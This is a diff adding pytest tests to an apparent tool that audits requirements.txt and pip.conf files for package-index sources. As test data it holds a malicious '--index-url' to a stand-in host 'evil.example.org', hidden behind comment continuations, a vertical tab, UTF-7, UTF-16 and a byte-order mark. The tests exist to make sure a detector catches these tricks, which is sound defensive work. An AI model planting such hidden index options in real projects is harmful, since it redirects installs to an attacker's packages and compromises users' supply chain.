@@ -109,3 +109,66 @@ def test_an_environment_file_with_packages_of_python_is_known(tmp_path: Path) ->
 
     assert found.has_pip
     assert found.named == ("https://channels.example.org/x",)
+
+
+EVIL = "--index-url https://evil.example.org/simple"
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        pytest.param(f"# a comment \\\n{EVIL}\n".encode(), id="behind a comment that seems to go on"),
+        pytest.param(f"numpy \\\n# a comment \\\n{EVIL}\n".encode(), id="behind a comment in what goes on"),
+        pytest.param(f"numpy\x0b{EVIL}\n".encode(), id="behind a vertical tab"),
+        pytest.param(EVIL.encode("utf-16"), id="in UTF-16"),
+        pytest.param(f"# coding: utf-7\n{EVIL}".replace("-", "+AC0-").encode(), id="in UTF-7 that it does not say"),
+        pytest.param(b"# coding: utf-7\n+AC0ALQ-index-url https:+AC8ALw-evil.example.org", id="in UTF-7"),
+        pytest.param(b"\xef\xbb\xbf" + EVIL.encode(), id="behind a mark of UTF-8"),
+    ],
+)
+def test_no_way_to_write_an_option_hides_it(tmp_path: Path, data: bytes) -> None:
+    (tmp_path / "requirements.txt").write_bytes(data)
+
+    found = read_requirement_file("requirements.txt", PathResolver(tmp_path))
+
+    assert found.named
+    assert found.hosts in (("evil.example.org",), (UNKNOWN_HOST,))
+
+
+@pytest.mark.parametrize("line", ["lib/evil", "evil.tar.gz", "evil.whl; python_version > '3'", "x @ ${PLACE}", "${X}"])
+def test_what_could_be_a_file_of_the_project_is_named(tmp_path: Path, line: str) -> None:
+    (tmp_path / "requirements.txt").write_text(f"{line}\n")
+
+    assert read_requirement_file("requirements.txt", PathResolver(tmp_path)).named == (line,)
+
+
+@pytest.mark.parametrize(
+    "line", ["numpy", "numpy[all]>=2,<3 ; python_version > '3'", "numpy==2 --hash=sha256:ab --hash=sha256:cd"]
+)
+def test_what_an_index_answers_is_not_named(tmp_path: Path, line: str) -> None:
+    (tmp_path / "requirements.txt").write_text(f"{line}  # why\n")
+
+    assert read_requirement_file("requirements.txt", PathResolver(tmp_path)).named == ()
+
+
+def test_all_that_an_environment_sets_of_pip_is_told(tmp_path: Path) -> None:
+    text = "[global]\n--Extra_Index_Url = https://k:s@evil.example.org/x\n[install]\ntarget = /elsewhere\n"
+    (tmp_path / "pip.conf").write_text(text)
+
+    for settings in (PackageSettings(), MIRROR):
+        source = pip_source(settings, {}, tmp_path)
+
+        assert source.named == (
+            f"{tmp_path}/pip.conf sets extra-index-url = https://evil.example.org/x",
+            f"{tmp_path}/pip.conf sets target = /elsewhere",
+        )
+        assert "evil.example.org" in source.hosts
+
+
+def test_settings_of_pip_that_cannot_be_read_may_name_any_host(tmp_path: Path) -> None:
+    (tmp_path / "pip.conf").write_text("index-url = https://evil.example.org\n")
+
+    source = pip_source(PackageSettings(), {}, tmp_path)
+
+    assert source.named == (f"what {tmp_path}/pip.conf sets could not be looked at",)
+    assert UNKNOWN_HOST in source.hosts
